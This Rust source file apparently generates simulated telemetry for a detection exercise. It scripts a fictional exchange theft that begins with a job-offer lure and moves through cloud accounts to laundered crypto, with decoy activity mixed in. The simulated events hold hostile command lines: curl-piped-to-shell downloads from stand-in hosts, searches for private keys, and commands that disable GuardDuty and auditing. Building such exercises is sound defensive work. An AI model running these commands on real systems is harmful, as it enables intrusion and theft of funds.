//! Scenario `exchange`: an exchange is robbed through a developer's workstation, and the funds are laundered.

use palisade_model::{ObservableKind, Vector};

use crate::acts::Proc;
use crate::acts::{audited, clipboard, spawn, wrote};
use crate::cloud::{Caller, Cloud};
use crate::plan::{Leg, Plan};
use crate::scenario::decoys::{self, Grounds};
use crate::scenario::moves::{aws, github, okta, pod_runs, pod_shell, reaches, server};
use crate::scenario::programs::{CMD, POWERSHELL};
use crate::scenario::{ScenarioInfo, Scene, rules};
use crate::truth::ActorProfile;
use crate::vectors::{Coin, ether, tokens};
use crate::world::{Role, World};

/// The scenario.
pub(crate) const SCENE: Scene = Scene {
    info: ScenarioInfo {
        name: "exchange",
        title: "The coding task",
        summary: "A developer of an exchange is offered a job and opens a coding task. From the desk the way leads over \
                  a reset second factor, the code host and the build machines to the cloud account and the host that \
                  signs withdrawals. Funds leave for many addresses within hours.",
        sources: &[
            "Public statements on the theft of February 2025 from an exchange through a developer's machine at a \
             supplier of wallets",
            "Public statements on the theft of May 2024 in Japan that began with a job offer to an engineer",
            "Joint advisories since 2022 on job offers with trojanised projects to people who work with coins",
        ],
        vectors: &[Vector::Host, Vector::Influence, Vector::Mail, Vector::Files, Vector::Money],
    },
    label: "hohlmark",
    end: 1_790_899_200, // 2026-10-02
    cast: &[
        (Role::Office, 4),
        (Role::Developer, 4),
        (Role::Admin, 1),
        (Role::Server, 1),
        (Role::Controller, 1),
        (Role::LinuxBuild, 4),
        (Role::LinuxWeb, 1),
    ],
    clouds: &[Cloud::M365, Cloud::Okta, Cloud::GitHub, Cloud::Aws, Cloud::Kubernetes],
    ledger: true,
    plant,
    actors,
    notes: &[
        "The first program fetched and the later one on the build machine speak to one address: the only link between \
         the desk and the build machines.",
        "The rented relay from which tokens are used joins Okta, GitHub, AWS and Kubernetes; one call comes from a VPN \
         exit that staff use.",
        "Another developer's build script fetches a tool the same way and means no harm.",
    ],
};

const ACTOR: &str = "TIN JACKDAW";
const NODE: &str = "C:\\Program Files\\nodejs\\node.exe";
const CODE: &str = "C:\\Program Files\\Microsoft VS Code\\Code.exe";

fn actors(world: &World) -> Vec<ActorProfile> {
    vec![super::actor(
        world,
        ACTOR,
        "the fictional state of Osteria Magna, for money",
        &["T1566.003", "T1204.002", "T1195.001", "T1528", "T1552.004", "T1098.001"],
        &["assessor"],
        &["recruiters of invented funds", "coding tasks with editor tasks"],
    )]
}

/// One story, told in the order in which it happens.
fn plant(p: &mut Plan<'_>) {
    let w = p.world;
    let desk = p.take(Role::Developer);
    let (build, other, signer) =
        (p.take(Role::LinuxBuild), p.take(Role::LinuxBuild), p.take(Role::LinuxBuild));
    let dev = w.owner(desk).clone();
    let task = server(p, "talent-tasks", "org");
    let relay = server(p, "relay", "net");
    let tool = p.tool("assessor");
    let called = w.called("assessor");
    let agent = p.tool("agentd");
    let persona = format!("recruiting@bluepeak-{}.example.com", p.dice.hex(3));
    let temp = format!("C:\\Users\\{}\\AppData\\Local\\Temp", dev.account);

    p.campaign("the coding task", ACTOR);
    p.phase(15, 9);
    p.later(
        Vector::Influence,
        0,
        "a recruiter's persona writes to developers",
        &["T1566.003"],
        &[(ObservableKind::Email, &persona)],
    );
    p.later(
        Vector::Mail,
        600,
        "the coding task is mailed",
        &["T1566.002"],
        &[
            (ObservableKind::Email, &persona),
            (ObservableKind::Email, &dev.mail),
            (ObservableKind::Domain, &task.name),
        ],
    );
    p.later(
        Vector::Files,
        700,
        "an archive with a project whose editor task fetches more",
        &["T1204.002"],
        &[(ObservableKind::FileName, "wallet-challenge.zip")],
    );
    p.step(
        7_200,
        "the editor's task pipes a download into a shell",
        &["T1204.002", "T1059.003"],
        &[rules::EDITOR],
    );
    let code = p.standing(desk, &dev.windows, CODE);
    p.run(desk, &code, CMD, &format!("cmd.exe /d /c \"curl -s https://{}/env | cmd\"", task.name));
    p.step(
        7_500,
        "the project's package starts a shell that downloads",
        &["T1195.001", "T1059.003"],
        &[rules::PACKAGE],
    );
    let node = p.standing(desk, &dev.windows, NODE);
    let line = format!(
        "cmd.exe /c curl -s -o %TEMP%\\{called}.exe https://{}/a && start /b %TEMP%\\{called}.exe",
        task.name
    );
    let shell = p.run(desk, &node, CMD, &line);
    p.step(7_504, "what it downloaded runs and calls home", &["T1105", "T1071.001"], &[rules::WRITABLE_OUT]);
    let place = format!("{temp}\\{called}.exe");
    let assessor = p.run_file(desk, &shell, &place, &format!("{called}.exe"), Some(&tool));
    reaches(p, desk, &assessor, &task);
    p.step(7_560, "it comes back with the desktop", &["T1547.001"], &[rules::STARTUP]);
    let start = "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update-check.js";
    p.on(desk, wrote(&node, &format!("C:\\Users\\{}\\{start}", dev.account)));

    p.phase(60, 15);
    p.step(0, "browser passwords and cookies copied", &["T1555.003", "T1539"], &[rules::BROWSER_SECRETS]);
    let python = Proc::new(
        w,
        &w.hosts[desk],
        &dev.windows,
        &format!("{temp}\\py\\pythonw.exe"),
        "pythonw.exe c.py",
        &mut p.dice,
    );
    p.on(desk, wrote(&python, &format!("{temp}\\b\\Login Data")));
    p.step(30, "the copier was started by the first program", &["T1059.006"], &[]);
    p.on(desk, spawn(&assessor, &python));
    if p.perhaps(4) {
        p.step(90, "the clipboard is watched", &["T1115"], &[rules::CLIPBOARD]);
        p.on(desk, clipboard(&python));
    }
    if p.perhaps(4) {
        p.step(400, "wallet extensions copied", &["T1005"], &[rules::WALLET_COPIED]);
        let line = format!(
            "powershell.exe -c Compress-Archive $env:LOCALAPPDATA\\*\\nkbihfbeogaeaoehlefnkodbefgpgknn {temp}\\w.zip"
        );
        p.run(desk, &assessor, POWERSHELL, &line);
    }

    p.phase(160, 22);
    p.step(
        0,
        "the service desk is talked into a new second factor",
        &["T1556.006", "T1598.004"],
        &[rules::FACTOR_RESET],
    );
    okta(p, &w.admin(1).mail, &relay.ip, "user.mfa.factor.reset_all", &dev.mail);
    p.step(240, "the developer's account signs in from the relay", &["T1078.004"], &[]);
    okta(p, &dev.mail, &relay.ip, "user.session.start", &dev.mail);
    p.step(1_800, "repositories are cloned", &["T1213.003"], &[]);
    for repo in ["wallet", "infra"] {
        github(p, &dev, &relay.ip, "git.clone", repo);
    }
    p.step(2_400, "the protection of a branch is removed", &["T1685"], &[rules::BRANCH]);
    github(p, &dev, &relay.ip, "protected_branch.destroy", "wallet");

    p.phase(380, 23);
    p.step(
        0,
        "a package's script pipes a download into a shell on a build machine",
        &["T1195.001", "T1059.004"],
        &[rules::PIPED],
    );
    let node = p.standing(build, "runner", "/usr/bin/node");
    let shell = p.run(build, &node, "/bin/sh", &format!("sh -c curl -s https://{}/p | bash", task.name));
    p.step(
        8,
        "a program in a temporary directory calls home",
        &["T1105", "T1071.001"],
        &[rules::TEMPORARY_OUT],
    );
    let spot = &format!("/var/tmp/.cache/{}", w.called("agentd"));
    let first = p.run_file(build, &shell, spot, &format!("{spot} -d"), Some(&agent));
    reaches(p, build, &first, &task);
    p.step(300, "keys are searched for", &["T1552.004"], &[rules::KEYS_SEARCHED]);
    p.run(
        build,
        &first,
        "/usr/bin/find",
        "find / -name id_rsa -o -name id_ed25519 -o -name *.pem -o -name wallet.dat",
    );
    p.step(420, "the same program on the next build machine", &["T1570"], &[rules::TEMPORARY_OUT]);
    let shell = p.standing(other, "runner", "/bin/bash");
    let second = p.run_file(other, &shell, spot, &format!("{spot} -d"), Some(&agent));
    reaches(p, other, &second, &relay);

    p.phase(560, 21);
    let key = format!("AKIA{}", crate::dice::Dice::new(w.seed, "build-bot").code(16));
    let bot = Caller { user: "build-bot", key: &key, ip: &relay.ip, agent: "Boto3/1.34 Python/3.11 Linux" };
    p.step(0, "the build account asks who it is", &["T1087.004"], &[]);
    aws(p, bot, ("sts", "GetCallerIdentity"), "null", "");
    p.step(300, "stopping the trail is denied", &["T1685.002"], &[rules::TRAIL_DENIED]);
    aws(p, bot, ("cloudtrail", "StopLogging"), "{\"name\":\"org-trail\"}", "AccessDenied");
    p.step(900, "a key for another user", &["T1098.001"], &[rules::OTHER_KEY]);
    aws(p, bot, ("iam", "CreateAccessKey"), "{\"userName\":\"signer-maintenance\"}", "");
    p.step(4_000, "threat detection is suspended", &["T1685.002"], &[rules::DETECTION_OFF]);
    let far = w.exits[1].clone();
    let signer_key = format!("AKIA{}", p.dice.code(16));
    let next = Caller { user: "signer-maintenance", key: &signer_key, ip: &relay.ip, agent: bot.agent };
    aws(p, next, ("guardduty", "UpdateDetector"), "{\"detectorId\":\"12abc\",\"enable\":false}", "");
    p.step(4_400, "the bucket of the signing page is opened", &["T1530"], &[rules::BUCKET_OPEN]);
    let policy = "{\"bucketName\":\"signing-page\",\"bucketPolicy\":{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\
                  \"Allow\",\"Principal\":\"*\",\"Action\":\"s3:*\",\"Resource\":\"arn:aws:s3:::signing-page/*\"}]}}";
    aws(p, Caller { ip: &far, ..next }, ("s3", "PutBucketPolicy"), policy, "");

    p.phase(760, 22);
    p.step(0, "a shell in the container that prepares withdrawals", &["T1609"], &[rules::POD_SHELL]);
    pod_shell(p, "system:serviceaccount:ci:runner", &relay.ip, "custody", "withdraw-5c7d");
    let thief = p.market().fresh("thief", 0);
    p.step(
        240,
        "the address that is paid out to is put into the container's settings",
        &["T1565.001"],
        &[rules::POD_SHELL],
    );
    let set = ["/app/settings", "set", "payout.override", thief.as_str()];
    pod_runs(p, "system:serviceaccount:ci:runner", &relay.ip, ("custody", "withdraw-5c7d"), &set);
    p.names(ObservableKind::CryptoAddress, &thief);
    p.step(500, "an account's keys on the signing host", &["T1098.004"], &[rules::SSH_KEYS]);
    let shell = p.standing(signer, "signer", "/usr/bin/bash");
    p.on(signer, wrote(&shell, "/home/signer/.ssh/authorized_keys"));
    p.step(900, "the program of the build machines on the signing host", &["T1570"], &[rules::TEMPORARY_OUT]);
    let third = p.run_file(signer, &shell, spot, &format!("{spot} -d"), Some(&agent));
    reaches(p, signer, &third, &relay);
    p.step(1_000, "a library forced into every program", &["T1574.006"], &[rules::PRELOAD]);
    p.on(signer, wrote(&third, "/etc/ld.so.preload"));
    p.step(1_300, "audit is switched off", &["T1685.004"], &[rules::AUDIT_OFF]);
    p.on(signer, audited("/usr/sbin/auditctl", &["auditctl", "-e", "0"]));

    launder(p);

    let grounds = Grounds {
        tested_desk: p.take(Role::Office),
        tested_server: p.take(Role::Server),
        careless_desk: p.take(Role::Office),
        hardened: p.take(Role::Controller),
        when: [250, 470, 650],
    };
    decoys::plant(p, &grounds);
    treasury(p);
}

/// Addresses the loot is split over.
const HOPS: u64 = 40;

/// The money's way: out of the hot wallet, over forty addresses, through a bridge, a mixer and three services.
fn launder(p: &mut Plan<'_>) {
    let m = p.market().clone();
    p.phase(900, 3);
    let thief = m.fresh("thief", 0);
    p.money(0, "withdrawals to one address in six transactions", &["T1657"]);
    let mut coins = 0;
    for part in 0..6 {
        if part % 3 == 2 {
            p.pays(&m.hot, &thief, Coin::Dollar, tokens(380_000 + p.dice.clone().below(40_000)));
        } else {
            let share = 290_000 + 1_000 * p.dice.below(30);
            coins += share;
            p.pays(&m.hot, &thief, Coin::Ether, ether(share));
        }
    }
    p.money(3_600, "tokens swapped, coins split over forty addresses", &["T1657"]);
    for _ in 0..2 {
        let leg = |from: &str, to: &str, coin, amount| Leg { from: from.into(), to: to.into(), coin, amount };
        p.swaps(vec![
            leg(&thief, &m.router, Coin::Dollar, tokens(375_000)),
            leg(&m.router, &thief, Coin::Wrapped, ether(98_000)),
        ]);
    }
    let hop = |n: u64| m.fresh("hop", n);
    // A little stays for the price of transactions.
    let share = coins * 98 / 100 / HOPS;
    for n in 0..HOPS {
        p.pays(&thief, &hop(n), Coin::Ether, ether(share));
    }

    p.phase(960, 4);
    p.money(0, "a quarter crosses a bridge, another goes through a mixer", &["T1657"]);
    for n in 0..10 {
        p.pays(&hop(n), &m.bridge, Coin::Ether, ether(share - 20));
    }
    for n in 10..20 {
        for _ in 0..share / 10_000 {
            p.pays(&hop(n), &m.mixer, Coin::Ether, ether(10_000));
        }
    }
    p.money(600, "the rest is collected at three addresses", &["T1657"]);
    let gathered = |n: u64| m.fresh("gathered", n % 3);
    for n in 20..HOPS {
        p.pays(&hop(n), &gathered(n), Coin::Ether, ether(share - 20));
    }
    p.money(1_200, "and paid in at three services, which sweep it", &["T1657"]);
    for n in 0..3 {
        let (service, deposit) = (n as usize, m.deposit(n as usize, 9_000_000 + n));
        let held = (20..HOPS).filter(|h| h % 3 == n).count() as u64 * (share - 20);
        p.pays(&gathered(n), &deposit, Coin::Ether, ether(held - 30));
        p.pays(&deposit, &m.services[service], Coin::Ether, ether(held - 60));
    }
}

/// What looks like it: the exchange moves its own coins, and somebody who makes markets splits and collects.
fn treasury(p: &mut Plan<'_>) {
    let m = p.market().clone();
    p.decoy("coins for the cold wallet");
    p.phase(500, 10);
    p.money(0, "five large payments to the own cold wallet", &[]);
    for _ in 0..5 {
        let amount = ether(250_000 + 1_000 * p.dice.below(20));
        p.pays(&m.hot, &m.cold, Coin::Ether, amount);
    }
    p.decoy("a maker of markets");
    p.phase(640, 13);
    let maker = m.fresh("maker", 0);
    p.money(0, "a customer takes out much at once", &[]);
    p.pays(&m.hot, &maker, Coin::Ether, ether(160_000));
    p.money(1_800, "and spreads it over addresses of its own", &[]);
    for n in 0..12 {
        p.pays(&maker, &m.fresh("maker", n + 1), Coin::Ether, ether(12_000));
    }
    p.money(90_000, "which pay it back into its account", &[]);
    for n in 0..12 {
        p.pays(&m.fresh("maker", n + 1), &m.hot, Coin::Ether, ether(11_900));
    }
}
